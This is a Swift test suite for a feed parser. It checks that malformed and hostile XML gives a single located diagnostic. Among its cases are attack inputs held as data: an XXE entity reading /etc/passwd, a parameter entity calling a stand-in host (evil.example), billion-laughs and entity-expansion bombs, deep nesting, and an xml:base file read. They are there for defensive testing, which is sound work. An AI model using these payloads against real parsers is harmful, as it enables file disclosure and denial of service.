import Foundation
import Testing
@testable import CarouselSiteKit

/// Malformed and hostile XML: each gives one located diagnostic, quickly, and never a crash.
@Suite struct XMLFeedErrorTests {
    struct Case: CustomTestStringConvertible, Sendable {
        var feed: String
        var expected: Diagnostic
        var testDescription: String { expected.message }
    }

    static let cases: [Case] = [
        Case(feed: "<rss>\n<channel>\n</rss>", expected: error("mismatched closing tag '</rss>'; expected '</channel>'", "feed.xml", 3, 1, "</rss>", notes: ["'<channel>' opened at feed.xml:2:1"])),
        Case(feed: "<rss>\n  <channel>", expected: error("expected '</channel>' before the end of the file", "feed.xml", 2, 12, "  <channel>", notes: ["'<channel>' opened at feed.xml:2:3"])),
        Case(feed: "<rss><title>Fish &chips;</title></rss>", expected: error("undefined entity '&chips;'; expected '&lt;', '&gt;', '&amp;', '&apos;', '&quot;' or a numeric character reference", "feed.xml", 1, 18, "<rss><title>Fish &chips;</title></rss>")),
        Case(feed: "<rss><title>AT&T</title></rss>", expected: error("expected ';' after the entity name 'T'", "feed.xml", 1, 17, "<rss><title>AT&T</title></rss>")),
        // Found by fuzzing: a document that starts with a closing tag.
        Case(feed: "\n</item>\n<title>A</title>", expected: error("unexpected closing tag '</item>'; expected a root element", "feed.xml", 2, 1, "</item>")),
        Case(feed: "<rss a=\"1\" a=\"2\"/>", expected: error("duplicate attribute 'a'", "feed.xml", 1, 12, "<rss a=\"1\" a=\"2\"/>")),
        Case(feed: "<rss><item x=1/></rss>", expected: error("expected a quoted attribute value", "feed.xml", 1, 14, "<rss><item x=1/></rss>")),
        Case(feed: "<rss></rss>\n<rss/>", expected: error("unexpected content after the root element 'rss'", "feed.xml", 2, 1, "<rss/>")),
        Case(feed: "<html><body/></html>", expected: error("unrecognised XML feed with root element '<html>'; expected '<rss>', '<feed>', '<rdf:RDF>' or '<plist>'", "feed.xml", 1, 1, "<html><body/></html>")),
        Case(feed: "<rss>&#0;</rss>", expected: error("character reference to U+0, which XML does not allow", "feed.xml", 1, 6, "<rss>&#0;</rss>")),
        Case(feed: "<rss>\u{1}</rss>", expected: error("control character U+0001 is not allowed in XML", "feed.xml", 1, 6, "<rss>\u{1}</rss>")),
        Case(feed: "hello", expected: error("unrecognised feed format; expected JSON, RSS, Atom or a property list", "feed.xml", 1, 1, "hello")),
        Case(feed: "", expected: error("unrecognised feed format; expected JSON, RSS, Atom or a property list", "feed.xml", 1, 1, "")),
        Case(feed: "<?xml version=\"1.0\" encoding=\"EBCDIC\"?><rss/>", expected: error("unsupported encoding 'EBCDIC'; expected UTF-8, UTF-16 or ISO-8859-1", "feed.xml", 1, 31, "<?xml version=\"1.0\" encoding=\"EBCDIC\"?><rss/>")),
        // XXE: an external entity is refused at its declaration; nothing is read.
        Case(feed: "<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n<rss>&xxe;</rss>", expected: error("external entity 'xxe' is not allowed; only internal entities with plain text are supported", "feed.xml", 2, 1, "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">")),
        Case(feed: "<!DOCTYPE rss [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]><rss/>", expected: error("parameter entities are not supported", "feed.xml", 1, 25, "<!DOCTYPE rss [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]><rss/>")),
        // Billion laughs: refused where the first entity refers to another.
        Case(feed: "<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n]>\n<lolz>&lol2;</lolz>", expected: error("entity 'lol2' refers to another entity; nested entities are not supported", "feed.xml", 3, 16, "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">")),
    ]

    @Test(arguments: cases)
    func malformedFeedGivesOneLocatedError(_ testCase: Case) {
        #expect(readError(text: testCase.feed, name: "feed.xml") == testCase.expected)
    }

    @Test func invalidUTF8IsLocated() {
        let bytes = Array("<rss>\n<title>ab".utf8) + [0xC3, 0x28] + Array("</title></rss>".utf8)
        #expect(readError(SourceText(name: "feed.xml", bytes: bytes)) == error("invalid UTF-8 byte 0xC3; expected UTF-8 text", "feed.xml", 2, 10, "<title>ab\u{FFFD}(</title></rss>"))
    }

    @Test func hundredThousandLevelsGiveADiagnosticNotAStackOverflow() {
        let depth = 100_000
        let feed = String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        let diagnostic = readError(text: feed, name: "deep.xml")
        // A line this long keeps 56 bytes on each side of the column, between ellipses.
        let bytes = Array(feed.utf8)
        var expected = error("elements nested deeper than 256 levels", "deep.xml", 1, 769, nil)
        expected.location?.lineText = "…" + String(decoding: bytes[712..<824], as: UTF8.self) + "…"
        expected.location?.lineTextColumn = 712
        #expect(diagnostic == expected)
    }

    @Test func quadraticEntityBlowUpIsBounded() {
        // One 64 KiB entity referenced 200 times would add 12.5 MiB: over the 8 MiB budget.
        let big = String(repeating: "x", count: 65_536)
        let feed = "<!DOCTYPE rss [<!ENTITY big \"\(big)\">]>\n<rss>" + String(repeating: "&big;", count: 200) + "</rss>"
        let diagnostic = readError(text: feed, name: "blowup.xml")
        #expect(diagnostic?.message == "entity references expand to more than 8 MiB")
        #expect(diagnostic?.location?.line == 2)
    }

    @Test func processingInstructionsAndCommentsAreHarmless() throws {
        let feed = "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"x.xsl\"?>\n<!-- c -->\n<rss><channel><item><?pi data?><title><![CDATA[<b>Bold</b>]]></title><enclosure url=\"https://e.com/x.jpg\" type=\"image/jpeg\"/></item></channel></rss>"
        #expect(try read(text: feed).slides == [SlideContent("https://e.com/x.jpg", title: "Bold")])
    }
}

extension Diagnostic {
    /// The same diagnostic with the text of its line taken from `text` (for inputs whose one
    /// line is too long to spell out in a test).
    func withLineText(from text: String) -> Diagnostic {
        var copy = self
        copy.location?.lineText = text
        return copy
    }
}

/// Nesting 100,000 levels deep in every format gives a diagnostic, not a stack overflow.
@Suite struct DeepNestingTests {
    static let depth = 100_000

    @Test func json() {
        let feed = String(repeating: "[", count: Self.depth) + String(repeating: "]", count: Self.depth)
        #expect(readError(text: feed, name: "deep.json")?.severity == .error)
    }

    @Test func xmlPropertyList() {
        let feed = "<plist>" + String(repeating: "<array>", count: Self.depth) + String(repeating: "</array>", count: Self.depth) + "</plist>"
        #expect(readError(text: feed, name: "deep.plist")?.message == "elements nested deeper than 256 levels")
    }

    @Test func openStepPropertyList() {
        let feed = String(repeating: "(", count: Self.depth) + String(repeating: ")", count: Self.depth)
        #expect(readError(text: feed, name: "deep.plist")?.message == "property list nested deeper than 512 levels")
    }

    @Test func relativeXMLBaseInALocalFeedKeepsReferencesLocal() throws {
        let feed = "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"ignored/\"><entry><link rel=\"enclosure\" type=\"image/png\" href=\"a.png\"/></entry></feed>"
        #expect(try read(text: feed, folder: "photos").slides == [SlideContent("local:photos/a.png")])
    }

    @Test func fileXMLBaseNeverMakesALocalRead() throws {
        let feed = "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"file:///etc/\"><entry><link rel=\"enclosure\" type=\"image/png\" href=\"passwd\"/></entry></feed>"
        let result = try read(text: feed, folder: "photos")
        #expect(result.slides.isEmpty)
        #expect(result.diagnostics.first?.message == "image reference 'passwd' is not a valid http or https URL")
    }
}
